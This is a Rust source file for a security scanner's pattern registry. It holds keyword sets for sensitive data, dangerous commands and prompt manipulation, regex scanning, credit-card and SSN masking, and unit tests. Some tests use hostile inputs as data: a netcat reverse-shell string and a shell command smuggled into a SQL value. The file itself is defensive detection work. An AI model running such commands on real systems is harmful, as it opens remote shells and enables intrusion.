use std::sync::LazyLock;

use regex::Regex;

use crate::families::RegexFamily;
use crate::keywords::KeywordSet;

/// One match surfaced by [`PatternRegistry::scan_text`]: which named pattern
/// matched and which family it belongs to (§4.2).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    pub pattern_name: String,
    pub category: &'static str,
}

static CREDIT_CARD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:\d[ -]?){13,16}\b").unwrap());
static SSN: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\b\d{3}-\d{2}-\d{4}\b").unwrap());

/// Holds the three keyword sets plus the compiled regex families (§4.2).
/// Populated once via [`PatternRegistry::load`] and read-only afterward —
/// no lock is needed on the scanning hot path (§5).
#[derive(Debug, Clone)]
pub struct PatternRegistry {
    sensitive_data: KeywordSet,
    dangerous_commands: KeywordSet,
    prompt_manipulation: KeywordSet,
}

/// Keyword overrides accepted by [`PatternRegistry::load`]; an empty vector
/// means "use the built-in defaults" (§4.2, §6 `security.keywords.*`).
#[derive(Debug, Clone, Default)]
pub struct PatternConfig {
    pub sensitive_data: Vec<String>,
    pub dangerous_commands: Vec<String>,
    pub prompt_manipulation: Vec<String>,
}

impl PatternRegistry {
    /// Idempotent: calling `load` again simply recomputes the same frozen
    /// sets from a (possibly different) configuration.
    pub fn load(config: &PatternConfig) -> Self {
        PatternRegistry {
            sensitive_data: KeywordSet::sensitive_data(&config.sensitive_data),
            dangerous_commands: KeywordSet::dangerous_commands(&config.dangerous_commands),
            prompt_manipulation: KeywordSet::prompt_manipulation(&config.prompt_manipulation),
        }
    }

    pub fn sensitive_data(&self) -> &KeywordSet {
        &self.sensitive_data
    }

    pub fn dangerous_commands(&self) -> &KeywordSet {
        &self.dangerous_commands
    }

    pub fn prompt_manipulation(&self) -> &KeywordSet {
        &self.prompt_manipulation
    }

    /// Scan `text` against a single named regex family, returning every
    /// match rather than the first (§4.2 contract).
    pub fn scan_family(&self, family: RegexFamily, text: &str) -> Vec<Match> {
        family
            .patterns()
            .iter()
            .filter(|p| p.regex.is_match(text))
            .map(|p| Match {
                pattern_name: p.name.to_string(),
                category: family.as_str(),
            })
            .collect()
    }

    /// Scan `text` against every regex family, returning every match.
    pub fn scan_text(&self, text: &str) -> Vec<Match> {
        RegexFamily::all()
            .iter()
            .flat_map(|family| self.scan_family(*family, text))
            .collect()
    }

    /// Replace sensitive-data-shaped substrings with a fixed mask (§4.2,
    /// §8 invariant 6: masking is idempotent). Currently covers credit-card
    /// numbers and SSNs; credit-card numbers are masked before SSNs so a
    /// 16-digit run is never partially re-matched by the narrower SSN
    /// pattern.
    pub fn mask_text_in_place(&self, text: &str) -> String {
        let masked = CREDIT_CARD.replace_all(text, "****-****-****-****");
        SSN.replace_all(&masked, "***-**-****").into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_seed_sensitive_data_keywords() {
        let registry = PatternRegistry::load(&PatternConfig::default());
        assert!(registry.sensitive_data().iter().any(|k| k == "password"));
    }

    #[test]
    fn dangerous_commands_always_include_sql_verbs() {
        let registry = PatternRegistry::load(&PatternConfig::default());
        let words: Vec<&str> = registry.dangerous_commands().iter().collect();
        assert!(words.contains(&"drop"));
        assert!(words.contains(&"DROP"));
    }

    #[test]
    fn scan_text_matches_dangerous_http_family() {
        let registry = PatternRegistry::load(&PatternConfig::default());
        let matches = registry.scan_family(RegexFamily::DangerousHttp, "nc -e /bin/sh 1.2.3.4 4444");
        assert!(!matches.is_empty());
    }

    #[test]
    fn mask_replaces_credit_card_number() {
        let registry = PatternRegistry::load(&PatternConfig::default());
        let masked = registry.mask_text_in_place("My card is 4111 1111 1111 1111");
        assert_eq!(masked, "My card is ****-****-****-****");
    }

    #[test]
    fn masking_is_idempotent() {
        let registry = PatternRegistry::load(&PatternConfig::default());
        let once = registry.mask_text_in_place("SSN 123-45-6789");
        let twice = registry.mask_text_in_place(&once);
        assert_eq!(once, twice);
    }

    #[test]
    fn mcp_command_extraction_matches_path_where_clause() {
        let registry = PatternRegistry::load(&PatternConfig::default());
        let matches = registry.scan_family(
            RegexFamily::McpCommandExtraction,
            "SELECT * FROM t WHERE name = '/bin/sh -c id'",
        );
        assert!(!matches.is_empty());
    }
}
